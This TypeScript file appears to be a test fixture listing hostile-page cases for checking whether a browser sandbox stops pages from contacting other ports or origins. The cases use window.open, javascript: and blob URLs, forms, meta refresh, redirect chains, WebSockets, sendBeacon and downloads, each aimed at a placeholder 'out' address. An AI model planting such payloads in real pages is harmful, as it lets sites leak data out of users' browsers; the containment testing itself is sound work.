import type { PageAttack } from './hostile-site.ts';
import { script } from './requests.ts';

const leak = (out: string): string => script(`fetch('${out}/x', { mode: 'no-cors' })`);

/** Other windows, and other addresses in the same one. */
export const windowAttacks: readonly PageAttack[] = [
  {
    name: 'window.open',
    how: 'a window of another port, opened by a script and by a click',
    files: ({ out }) => ({
      '/': `<button onclick="open('${out}/y')">Open</button>${script(`open('${out}/x')`)}`,
    }),
  },
  {
    name: 'window.open noopener',
    how: 'a window that its page cannot see, by a script and by a click',
    files: ({ out }) => ({
      '/': `<button onclick="open('${out}/y', '_blank', 'noopener')">Open</button>
        ${script(`open('${out}/x', '_blank', 'noopener,noreferrer')`)}`,
    }),
  },
  {
    name: 'window that is written',
    how: 'an empty window gets a document that asks elsewhere',
    files: ({ out }) => ({
      '/': script(`const beside = open('about:blank');
        beside.document.write('<img src="${out}/x.png">'); beside.fetch('${out}/y', { mode: 'no-cors' });
        beside.navigator.sendBeacon('${out}/z')`),
    }),
  },
  {
    name: 'window of the site',
    how: 'a window of the same origin asks elsewhere',
    files: ({ out }) => ({
      '/': script(`open('/beside'); open('/beside', '_blank', 'noopener')`),
      '/beside': leak(out),
    }),
  },
  {
    name: 'window with a socket',
    how: 'a window of the same origin opens a socket',
    files: ({ port }) => ({
      '/': script(`open('/beside'); open('/beside', '_blank', 'noopener')`),
      '/beside': script(`new WebSocket('ws://127.0.0.1:${port}/x')`),
    }),
  },
  {
    name: 'javascript: window',
    how: 'a window of a javascript: URL, and one of a blob',
    files: ({ out }) => ({
      '/': script(`open("javascript:fetch('${out}/x', { mode: 'no-cors' })");
        open(URL.createObjectURL(new Blob(['<img src="${out}/y.png">'], { type: 'text/html' })))`),
    }),
  },
  {
    name: 'link to a new window',
    how: 'links with target=_blank, with and without an opener',
    files: ({ out }) => ({
      '/': `<a id="a" href="${out}/a" target="_blank">a</a><a id="b" href="${out}/b" target="_blank" rel="opener">b</a>
        ${script(`document.getElementById('a').click(); document.getElementById('b').click()`)}`,
    }),
  },
  {
    name: 'form to a new window',
    how: 'forms that post to and get from another port in new windows',
    files: ({ out }) => ({
      '/': `<form id="a" method="post" action="${out}/a" target="_blank"><input name="x" value="y"></form>
        <form id="b" action="${out}/b" target="beside" rel="noopener"></form>
        ${script(`document.getElementById('a').submit(); document.getElementById('b').submit()`)}`,
    }),
  },
  {
    name: 'location',
    how: 'the page itself goes elsewhere',
    files: ({ out }) => ({ '/': script(`location.href = '${out}/x'`) }),
  },
  {
    name: 'form in place',
    how: 'a form posts to another port in the same window',
    files: ({ out }) => ({
      '/': `<form id="a" method="post" action="${out}/a"></form><button onclick="document.getElementById('a').submit()">Go</button>`,
    }),
  },
  {
    name: 'meta refresh',
    how: 'the document says where to go next',
    files: ({ out }) => ({ '/': `<meta http-equiv="refresh" content="0;url=${out}/x">` }),
  },
  {
    name: 'Refresh header',
    how: 'the server says where to go next',
    files: ({ out }) => ({ '/': { headers: { refresh: `0;url=${out}/x` } } }),
  },
  {
    name: 'redirect of the document',
    how: 'a link of the site is answered with 302 to another port',
    files: ({ out }) => ({
      '/': `<button onclick="location.href = '/away'">Go</button>`,
      '/away': { status: 302, headers: { location: `${out}/x` } },
    }),
  },
  {
    name: 'redirect of requests',
    how: 'fetch, image, worker and frame are answered with 302 and 307 to another port',
    files: ({ out }) => ({
      '/': `<img src="/found"><iframe src="/found"></iframe><script src="/found"></script>
        ${script(`fetch('/kept', { method: 'POST', body: 'x', mode: 'no-cors' }); new Worker('/found');
          navigator.sendBeacon('/kept', 'x'); navigator.serviceWorker.register('/found').catch(() => 0)`)}`,
      '/found': { status: 302, headers: { location: `${out}/x` } },
      '/kept': { status: 307, headers: { location: `${out}/x` } },
    }),
  },
  {
    name: 'several redirects',
    how: 'a chain within the site ends at another port',
    files: ({ out }) => ({
      '/': script(`fetch('/a', { mode: 'no-cors' })`),
      '/a': { status: 302, headers: { location: '/b' } },
      '/b': { status: 302, headers: { location: '/c' } },
      '/c': { status: 302, headers: { location: `${out}/x` } },
    }),
  },
  {
    name: 'download',
    how: 'a link downloads from another port',
    files: ({ out }) => ({
      '/': `<a id="a" href="${out}/x.zip" download="x.zip">x</a>${script(`document.getElementById('a').click()`)}`,
    }),
  },
];
